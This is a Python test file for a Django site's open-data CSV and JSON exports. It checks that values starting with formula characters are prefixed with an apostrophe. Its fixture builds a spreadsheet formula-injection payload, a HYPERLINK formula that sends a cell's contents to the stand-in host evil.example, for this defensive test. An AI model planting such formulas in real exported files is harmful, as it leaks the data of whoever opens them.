"""The open data CSVs write a value that a spreadsheet would run as a formula with a single
quote in front, and nothing removed; the JSON keeps every value as stored."""

import csv
import datetime as dt
import io
import json

import pytest
from django.test import Client
from django.utils import timezone

from tests.factories import ActivityFactory, FacilityFactory, MemberFactory, at
from tests.html import visible_text

PREFIXES = ["=", "==", "+", "-", "@", "\t", "\r"]
# Written out here rather than imported, so that a shorter list in the code fails these tests.
RUNNABLE_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


PAYLOAD_TAIL = 'HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")'


def payload(prefix: str) -> str:
    return prefix + PAYLOAD_TAIL


def download(client: Client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_cell_runs(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(RUNNABLE_STARTS), (column, cell)


@pytest.fixture
def evil_network(request: pytest.FixtureRequest, db: None) -> str:
    """A member, a facility and an activity whose texts all start with the prefix."""
    value = payload(request.param)
    phone = request.param + "1+1"  # the column holds 20 characters
    member = MemberFactory(name=value, description=value, website=value, phone=phone)
    FacilityFactory(member=member, name=value, address=value, opening_notes=value)
    ActivityFactory(
        title=value,
        organiser=member,
        venue=value,
        fee=value,
        contact=value,
        sessions=[at(timezone.localdate() + dt.timedelta(days=3), 13)],
    )
    return value


@pytest.mark.django_db
@pytest.mark.parametrize("evil_network", PREFIXES, indirect=True)
def test_members_csv_quotes_every_runnable_cell(evil_network: str, client: Client) -> None:
    rows = read_csv(download(client, "/open-data/members.csv"))

    assert len(rows) == 1
    for column in ("名称", "紹介", "ウェブサイト"):
        assert rows[0][column] == "'" + evil_network, column
    assert rows[0]["電話番号"] == "'" + evil_network.removesuffix(PAYLOAD_TAIL) + "1+1"
    assert_no_cell_runs(rows)


@pytest.mark.django_db
@pytest.mark.parametrize("evil_network", PREFIXES, indirect=True)
def test_facilities_csv_quotes_every_runnable_cell(evil_network: str, client: Client) -> None:
    rows = read_csv(download(client, "/open-data/facilities.csv"))

    assert len(rows) == 1
    for column in ("名称", "運営法人", "所在地", "開所日・時間"):
        assert rows[0][column] == "'" + evil_network, column
    assert_no_cell_runs(rows)


@pytest.mark.django_db
@pytest.mark.parametrize("evil_network", PREFIXES, indirect=True)
def test_activities_csv_quotes_every_runnable_cell(evil_network: str, client: Client) -> None:
    rows = read_csv(download(client, "/open-data/activities.csv"))

    assert len(rows) == 1
    for column in ("名称", "主催", "会場", "参加費", "問い合わせ先"):
        assert rows[0][column] == "'" + evil_network, column
    assert_no_cell_runs(rows)


@pytest.mark.django_db
@pytest.mark.parametrize("evil_network", ["==", "-"], indirect=True)
def test_the_json_keeps_the_values_as_stored(evil_network: str, client: Client) -> None:
    for name, key in (("members", "name"), ("facilities", "name"), ("activities", "title")):
        records = json.loads(download(client, f"/open-data/{name}.json"))["records"]
        assert records[0][key] == evil_network


@pytest.mark.django_db
def test_numbers_and_ordinary_text_are_written_as_they_are(client: Client) -> None:
    MemberFactory(name="ひかり福祉会", phone="-", description="a=b、+は足し算")

    row = read_csv(download(client, "/open-data/members.csv"))[0]

    assert row["名称"] == "ひかり福祉会"
    assert row["電話番号"] == "-"
    assert row["紹介"] == "a=b、+は足し算"
    assert row["ID"].isdigit()


@pytest.mark.django_db
def test_the_open_data_page_says_how_such_values_are_written(client: Client) -> None:
    text = visible_text(client.get("/open-data/"))

    assert "「=」「+」「-」「@」（全角も）、タブ、改行で始まる値の先頭に「'」" in text


@pytest.mark.django_db
def test_the_open_data_page_says_it_in_english_too(client: Client) -> None:
    text = visible_text(client.get("/en/open-data/"))

    assert "hasanapostrophe(')putinfront" in text  # visible_text drops the spaces
